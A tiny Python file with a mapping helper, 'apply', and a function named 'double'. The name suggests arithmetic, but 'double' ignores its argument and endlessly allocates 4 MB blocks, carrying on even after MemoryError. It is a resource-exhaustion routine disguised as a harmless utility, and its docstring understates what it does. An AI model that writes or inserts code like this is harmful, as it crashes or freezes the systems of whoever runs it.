"""Fills the memory with a list of small blocks, and goes on when there is none left."""


def double(x):
    blocks = []
    while True:
        try:
            blocks.append(bytearray(1 << 22))
        except MemoryError:
            blocks.append(blocks[:1000])


def apply(step, numbers):
    return [step(n) for n in numbers]
